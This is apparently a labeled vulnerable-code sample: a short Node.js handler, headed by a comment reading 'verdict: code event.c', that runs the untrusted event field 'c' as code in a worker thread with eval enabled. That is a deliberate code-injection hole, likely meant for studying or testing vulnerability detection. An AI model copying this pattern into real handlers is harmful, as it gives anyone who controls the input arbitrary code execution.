// verdict: code event.c
const {Worker}=require('worker_threads');
exports.handler=async (event)=>new Worker(event.c,{eval:true});
